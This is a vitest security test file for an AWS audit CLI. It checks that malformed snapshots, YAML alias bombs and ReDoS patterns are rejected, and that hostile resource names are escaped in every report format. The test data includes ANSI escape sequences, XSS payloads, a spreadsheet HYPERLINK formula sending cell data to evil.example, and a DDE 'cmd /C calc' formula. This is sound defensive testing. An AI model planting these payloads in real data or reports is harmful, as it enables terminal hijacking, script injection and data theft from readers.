/**
 * Hostile and broken input, end to end through the built CLI: snapshot files (not JSON, wrong
 * version, wrong types, huge strings, deep nesting, 100 MB), configuration files (unknown keys,
 * wrong types, bad or catastrophic regexes and globs), and resource names and tags written to attack
 * whoever reads the report (ANSI escapes, newlines, HTML, Markdown, spreadsheet formulas).
 *
 * Every bad file is one line on stderr naming the path of the bad field, exit 2, no stack trace,
 * bounded memory (peak RSS of the child measured with process.resourceUsage()).
 */
import { closeSync, mkdtempSync, openSync, readFileSync, truncateSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
import { parse as parseCsv } from 'csv-parse/sync';
import { convert } from 'xmlbuilder2';
import { beforeAll, describe, expect, it } from 'vitest';
import { RULES } from '../../rules/index.js';
import { parseSnapshot } from '../../src/snapshot/io.js';
import { UsageError } from '../../src/errors.js';
import { expectValidReport } from '../property/report-check.js';
import { BIN, expectUsageError, isolatedEnv, run, type RunResult } from './run.js';

const DEMO = new URL('../../fixtures/snapshots/demo.json', import.meta.url).pathname;
const demoText = readFileSync(DEMO, 'utf8');
const demo = () => JSON.parse(demoText) as Record<string, any>;

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'aws-tips-hostile-'));
});

const file = (name: string, content: string | object) => {
  const path = join(dir, name);
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  return path;
};

/** Runs the CLI in a child whose peak RSS (KiB) is reported back: bounded memory is measured, not assumed. */
function runMeasured(args: string[], timeoutMs = 60_000): Promise<RunResult & { maxRssKiB: number; ms: number }> {
  const wrapper = join(dir, 'measure.mjs');
  const rssFile = join(dir, `rss-${Date.now()}-${Math.random()}.txt`);
  writeFileSync(
    wrapper,
    `import { writeFileSync } from 'node:fs';\nprocess.on('exit', () => writeFileSync(process.env.RSS_OUT, String(process.resourceUsage().maxRSS)));\nawait import(${JSON.stringify(BIN)});\n`,
  );
  const started = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [wrapper, ...args], { env: { ...isolatedEnv(), RSS_OUT: rssFile }, cwd: dir });
    let stdout = '';
    let stderr = '';
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      let maxRssKiB = Number.NaN;
      try {
        maxRssKiB = Number(readFileSync(rssFile, 'utf8'));
      } catch {
        /* killed */
      }
      resolve({ code, stdout, stderr, maxRssKiB, ms: Date.now() - started });
    });
  });
}

const audit = (snapshot: string, more: string[] = []) => run(['audit', '--snapshot', snapshot, '--format', 'json', ...more], { cwd: dir });

describe('hostile snapshot files: one line naming the bad field, exit 2', () => {
  const cases: [string, () => string | object, RegExp][] = [
    ['empty file', () => '', /not JSON/],
    ['not JSON', () => '{"schemaVersion": 1, "meta": ', /not JSON \(/],
    ['JSON but an array', () => '[1,2]', /expected a JSON object/],
    ['JSON null', () => 'null', /expected a JSON object/],
    ['wrong schemaVersion', () => ({ ...demo(), schemaVersion: 2 }), /schemaVersion 2 is not supported/],
    ['schemaVersion missing', () => ({ ...demo(), schemaVersion: undefined }), /schemaVersion null is not supported/],
    [
      'wrong type deep inside an item',
      () => {
        const d = demo();
        d.ec2.instances[3].State = 'running';
        return d;
      },
      /ec2\.instances\[3\]\.State: .*expected object/,
    ],
    [
      'a number where a string belongs',
      () => {
        const d = demo();
        d.s3.buckets[1].Name = 42;
        return d;
      },
      /s3\.buckets\[1\]\.Name: .*expected string/,
    ],
    ['unknown service slice', () => ({ ...demo(), lambda: { functions: [] } }), /lambda: unknown key/],
    ['unknown meta key', () => ({ ...demo(), meta: { ...demo().meta, owner: 'x' } }), /meta\.owner: unknown key/],
    ['collectedAt is not a date', () => ({ ...demo(), meta: { ...demo().meta, collectedAt: 'yesterday' } }), /meta\.collectedAt: expected an ISO 8601 date-time/],
    ['account id with an escape sequence', () => ({ ...demo(), meta: { ...demo().meta, accountId: '\u001b[31m1111' } }), /meta\.accountId: expected a 12-digit/],
    ['region that is not a region', () => ({ ...demo(), meta: { ...demo().meta, regions: ['us-east-1', '<script>'] } }), /meta\.regions\[1\]: expected a region name/],
    [
      'huge string in an unknown SDK field',
      () => {
        const d = demo();
        d.ec2.instances[0].UserDataDump = 'x'.repeat(17 * 1024 * 1024);
        return d;
      },
      /ec2\.instances\[0\]\.UserDataDump: a string of 17825792 characters, over the limit/,
    ],
    [
      '100 000 nested arrays inside an unknown field',
      () => {
        const d = demo();
        d.ec2.instances[0].Nested = '@NEST@';
        return JSON.stringify(d).replace('"@NEST@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
      },
      /ec2\.instances\[0\]\.Nested\[0\]\[0\].*: nested more than 64 levels deep/,
    ],
    [
      '100 000 nested arrays where a string belongs',
      () => {
        const d = demo();
        d.ec2.instances[0].InstanceId = '@NEST@';
        return JSON.stringify(d).replace('"@NEST@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
      },
      /ec2\.instances\[0\]\.InstanceId: .*expected string/,
    ],
    [
      'a key made of escapes and newlines',
      () => ({ ...demo(), ec2: { ...demo().ec2, ['\u001b[2J\u001b]0;pwned\u0007\nfake: line']: [] } }),
      /ec2\.\\u001b\[2J\\u001b\]0;pwned\\u0007\\nfake: line: unknown key/,
    ],
    [
      'a 1 MB key',
      () => ({ ...demo(), ['k'.repeat(1024 * 1024)]: 1 }),
      /kkkk….*: unknown key/,
    ],
  ];

  it.each(cases)('%s', (name, content, message) => {
    const r = audit(file(`${name.replace(/\W+/g, '-')}.json`, content()));
    expectUsageError(r, message);
    expect(r.stderr).toMatch(/^aws-tips: invalid snapshot /);
    expect(r.stderr.length).toBeLessThan(800);
    // Nothing from the file reaches the terminal raw.
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(r.stdout).toBe('');
  });

  it('the same checks in process (parseSnapshot): a UsageError, never another exception', () => {
    for (const [name, content] of cases) {
      const c = content();
      expect(() => parseSnapshot(typeof c === 'string' ? c : JSON.stringify(c), name), name).toThrow(UsageError);
    }
  });

  it('a file that cannot be read: one line', () => {
    expectUsageError(audit(join(dir, 'missing.json')), /cannot read snapshot .*missing\.json: ENOENT/);
    // A directory is a set of account snapshots (collect --accounts): one without any is one line.
    expectUsageError(audit(mkdtempSync(join(tmpdir(), 'aws-tips-empty-'))), /the directory holds no snapshot/);
  });

  it('a directory with two snapshots of one account: one line naming the files, not an internal error', () => {
    const twice = mkdtempSync(join(tmpdir(), 'aws-tips-twice-'));
    writeFileSync(join(twice, 'a.json'), demoText);
    writeFileSync(join(twice, 'b.json'), demoText);
    const r = audit(twice);
    expectUsageError(r, /^aws-tips: cannot audit .*aws-tips-twice-[^/]*\/b\.json: account \d{12} is also in an earlier snapshot of the directory$/);
  });

  it('a 100 MB snapshot with a bad field at the very end: the path of the field, exit 2, bounded memory', async () => {
    // Written in pieces: ~150 000 realistic instances, the last one broken.
    const path = join(dir, 'big.json');
    const d = demo();
    const template = d.ec2.instances[0];
    const fd = openSync(path, 'w');
    const { instances: _drop, ...ec2Rest } = d.ec2;
    const head = JSON.stringify({ ...d, ec2: { ...ec2Rest, instances: '@I@' } });
    const [before, after] = head.split('"@I@"') as [string, string];
    writeSync(fd, `${before}[`);
    let bytes = before.length;
    let n = 0;
    const chunk: string[] = [];
    while (bytes < 100 * 1024 * 1024) {
      const s = JSON.stringify({ ...template, InstanceId: `i-${n.toString(16).padStart(17, '0')}` });
      chunk.push(s);
      bytes += s.length + 1;
      n += 1;
      if (chunk.length === 5000) {
        writeSync(fd, `${chunk.join(',')},`);
        chunk.length = 0;
      }
    }
    chunk.push(JSON.stringify({ ...template, InstanceId: 'i-last', LaunchTime: 1234 }));
    writeSync(fd, `${chunk.join(',')}]${after}`);
    closeSync(fd);

    const r = await runMeasured(['audit', '--snapshot', path, '--format', 'json']);
    expectUsageError(r, new RegExp(`ec2\\.instances\\[${n}\\]\\.LaunchTime: `));
    // JSON.parse of 100 MB of small objects costs a few hundred MB; the bound leaves room, no more.
    expect(r.maxRssKiB).toBeGreaterThan(0);
    expect(r.maxRssKiB).toBeLessThan(1024 * 1024);
  }, 120_000);

  it('a snapshot over the size limit is refused before it is read (memory stays small)', async () => {
    const path = join(dir, 'sparse.json');
    writeFileSync(path, '');
    truncateSync(path, 600 * 1024 * 1024); // sparse: no disk used
    const r = await runMeasured(['audit', '--snapshot', path, '--format', 'json']);
    expectUsageError(r, /snapshot .*sparse\.json is 600 MB, over the 512 MB limit/);
    expect(r.maxRssKiB).toBeLessThan(256 * 1024);
  });
});

describe('hostile configuration files: rejected with the key path, exit 2', () => {
  const config = (name: string, yaml: string) => run(['audit', '--demo', '--format', 'json', '--config', file(name, yaml)], { cwd: dir });

  it.each([
    ['unknown top-level key', 'colour: red\n', /: colour: unknown key$/],
    ['unknown rule option', 'rules:\n  ec2-no-ssh-ingress: { strictt: true }\n', /: rules\.ec2-no-ssh-ingress\.strictt: unknown key$/],
    ['unknown rule', 'rules:\n  no-such-rule: {}\n', /: rules\.no-such-rule: unknown rule/],
    ['unknown key in a suppression', 'suppressions:\n  - { rule: "*", reason: ok, reasn: typo }\n', /: suppressions\[0\]\.reasn: unknown key$/],
    ['wrong type', 'failOn: 3\n', /: failOn: /],
    ['wrong type of a rule option', 'rules:\n  ec2-no-ssh-ingress: { strict: "yes please" }\n', /: rules\.ec2-no-ssh-ingress\.strict: .*expected boolean/],
    ['a list where a mapping belongs', '- a\n', /: \(top level\): .*expected object/],
    ['not YAML', 'rules: [\n', /invalid config .*: /],
    ['a key with escapes and a newline', '"\\e[31mevil\\nkey": 1\n', /: \\u001b\[31mevil\\nkey: unknown key$/],
    [
      'an alias bomb',
      `a: &a [x,x,x,x,x,x,x,x,x,x]\n${'bcdefghij'.split('').map((k, i) => `${k}: &${k} [${Array(10).fill(`*${'abcdefghij'[i]}`).join(',')}]`).join('\n')}\n`,
      /resource exhaustion|alias/i,
    ],
    ['an invalid regex', 'rules:\n  iam-individual-human-identities: { sharedNamePattern: "([" }\n', /: rules\.iam-individual-human-identities\.sharedNamePattern: .*regular expression/],
  ])('%s', (name, yaml, message) => {
    const r = config(`${name.replace(/\W+/g, '-')}.yml`, yaml);
    expectUsageError(r, message);
    expect(r.stderr).toMatch(/^aws-tips: invalid config /);
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  });

  it('a regex RE2 cannot match in linear time (a backreference) is rejected with its key path', () => {
    const r = config('backref.yml', 'rules:\n  iam-individual-human-identities: { sharedNamePattern: "^(a)\\\\1$" }\n');
    expectUsageError(r, /: rules\.iam-individual-human-identities\.sharedNamePattern: regular expression uses a backreference \(\\1\)/);
  });

  it('a regex that backtracks catastrophically in RegExp is accepted and the audit runs: RE2 matches it in linear time', () => {
    const r = config('redos.yml', 'rules:\n  iam-individual-human-identities: { sharedNamePattern: "^(a+)+$" }\n');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1);
  });

  it('every rule option that takes a regex refuses backreferences and is matched by RE2 (src/safe-regex.ts safeRegex(), compileRegex())', () => {
    const unsafe: string[] = [];
    for (const rule of RULES) {
      const shape = (rule.options as unknown as { shape?: Record<string, unknown> }).shape ?? {};
      const keys = Object.keys(shape).filter((k) => /pattern|regex/i.test(k));
      for (const key of keys) {
        const defaults = rule.options.parse({}) as Record<string, unknown>;
        const current = defaults[key];
        // A string option, or a map of them (keys: whatever the schema accepts for a sample key).
        const candidates: unknown[] =
          typeof current === 'string' || current === undefined
            ? ['^(a)\\1$']
            : Array.isArray(current)
              ? [['^(a)\\1$']]
              : sampleKeys(shape[key]).map((k) => ({ [k]: '^(a)\\1$' }));
        for (const value of candidates) if (rule.options.safeParse({ [key]: value }).success) unsafe.push(`${rule.id}.${key}`);
      }
      // The rule matches its pattern with RE2 (compileRegex), never with a backtracking RegExp.
      if (keys.length > 0) {
        const source = readFileSync(new URL(`../../rules/${rule.section}/${rule.id}.ts`, import.meta.url), 'utf8');
        if (!source.includes('compileRegex(') || /new RegExp\((options|pattern)/.test(source)) unsafe.push(`${rule.id}: not matched with compileRegex`);
      }
    }
    expect(unsafe).toEqual([]);
  });

  it('an invalid suppression glob is rejected with its key path', () => {
    const r = config('glob.yml', 'suppressions:\n  - { rule: "*", resource: "arn:aws:s3:::{logs,assets", reason: accepted }\n');
    expectUsageError(r, /: suppressions\[0\]\.resource: .*glob/);
  });

  it('a glob that backtracks catastrophically in a regex engine does not hang the audit', async () => {
    // "*?*?…*Z": a backtracking matcher tries every way to place 12 characters in each ARN.
    const path = file('glob-redos.yml', `suppressions:\n  - { rule: "*", resource: "${'*?'.repeat(12)}*Z", reason: accepted }\n`);
    const r = await runMeasured(['audit', '--demo', '--format', 'json', '--config', path], 12_000);
    expect(r.ms).toBeLessThan(10_000);
    expect([1, 2]).toContain(r.code);
  }, 30_000);
});

/** Keys a record schema accepts: the enum's values, or a plain sample. */
function sampleKeys(schema: unknown): string[] {
  let s = schema as { _zod?: { def: Record<string, unknown> } };
  for (let i = 0; i < 5 && s?._zod; i++) {
    const def = s._zod.def;
    if (def.type === 'record') {
      const keyDef = (def.keyType as { _zod: { def: { type: string; entries?: Record<string, string> } } })._zod.def;
      return keyDef.type === 'enum' ? Object.values(keyDef.entries ?? {}) : ['sample'];
    }
    s = (def.innerType ?? def.in ?? def.schema) as typeof s;
  }
  return ['sample'];
}

describe('hostile resource names and tags: escaped in every output format', () => {
  const ATTACK = '\u001b[2J\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\n| **pwned** | [x](javascript:alert(1)) <script>alert(1)</script><img src=x onerror=alert(1)> " onmouseover="alert(1)';
  const FORMULA_BUCKET = '=HYPERLINK("http://evil.example/?"&A1,"ok").internal';
  const FORMULA_GROUP = "@SUM(1+1)*cmd|' /C calc'!A0";
  const outputs: Record<string, string> = {};
  let r: RunResult;

  beforeAll(() => {
    const j = (s: string) => JSON.stringify(s).slice(1, -1);
    const text = demoText
      .replaceAll('"bastion-ssh"', `"${j(ATTACK)}"`)
      .replaceAll('logs.acme-corp.internal', j(FORMULA_BUCKET))
      .replaceAll('sg-0a00000000legacy', j(FORMULA_GROUP))
      .replaceAll('"web-1"', `"${j(`-2+3 ${ATTACK}`)}"`);
    const snapshot = file('hostile-names.json', text);
    const targets = ['terminal', 'json', 'markdown', 'html', 'csv', 'junit', 'sarif'];
    r = run(['audit', '--snapshot', snapshot, ...targets.flatMap((t) => ['--format', `${t}=${join(dir, `out.${t}`)}`])], { cwd: dir });
    for (const t of targets) outputs[t] = readFileSync(join(dir, `out.${t}`), 'utf8');
  });

  it('the audit runs (exit 1: the demo has violations) and the attack strings reach the report', async () => {
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1);
    const report = JSON.parse(outputs.json!);
    await expectValidReport(report);
    const text = JSON.stringify(report);
    for (const s of [ATTACK, FORMULA_BUCKET, FORMULA_GROUP]) expect(text).toContain(JSON.stringify(s).slice(1, -1));
  });

  it('terminal: no escape sequence or bell reaches the terminal; newlines are shown as \\n', () => {
    const t = outputs.terminal!;
    expect(t).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(t).toContain('\\u001b[2J');
    expect(t).not.toMatch(/^\| \*\*pwned/m);
  });

  it('markdown: no raw HTML, link, table break or control character', () => {
    const md = outputs.markdown!;
    expect(md).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    // Tags only as inert text (&lt;script), links only with their brackets escaped (\[x\](...)).
    expect(md).not.toMatch(/<script|<img/i);
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(md).toMatch(/&lt;script&gt;/);
    expect(md).not.toMatch(/^\| \*\*pwned/m);
    expect(md).toMatch(/pwned/);
  });

  it('html: every attack string is inert text', () => {
    const html = outputs.html!;
    expect(html).not.toMatch(/<script>alert|<img src=x|" onmouseover="/i);
    expect(html).toMatch(/&#60;script&#62;alert|&lt;script&gt;alert/);
    // The only script is the report's own.
    expect(html.match(/<script/g)?.length ?? 0).toBeLessThanOrEqual(1);
  });

  it('csv: well-formed (one record per finding) and no cell starts a formula', () => {
    const rows = parseCsv(outputs.csv!, { relax_column_count: false }) as string[][];
    const report = JSON.parse(outputs.json!) as { findings: unknown[] };
    expect(rows.length).toBe(report.findings.length + 1);
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
    expect(rows.flat()).toContain(`'${FORMULA_BUCKET}`);
    expect(rows.flat()).toContain(`'${FORMULA_GROUP}`);
  });

  it('junit: well-formed XML without characters XML forbids', () => {
    const xml = outputs.junit!;
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    expect(() => convert(xml, { format: 'object' })).not.toThrow();
    expect(xml).not.toMatch(/<script|<img/);
  });

  it('sarif: result messages are plain text as SARIF 2.1.0 §3.11 defines it (no control characters, literal brackets escaped)', () => {
    const sarif = JSON.parse(outputs.sarif!) as { runs: { results: { message: { text: string; markdown?: string } }[] }[] };
    const texts = sarif.runs[0]!.results.map((r) => r.message.text);
    const hostile = texts.filter((t) => t.includes('pwned'));
    expect(hostile.length).toBeGreaterThan(0);
    // A viewer shows message text as it is: an escape sequence would reach whoever reads it.
    expect(texts.filter((t) => /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(t))).toEqual([]);
    // "[text](target)" in message text is an embedded link (§3.11.6); a literal bracket must be escaped "\[".
    expect(texts.filter((t) => /(?<!\\)\[[^\]]*(?<!\\)\]\(/.test(t))).toEqual([]);
  });
});
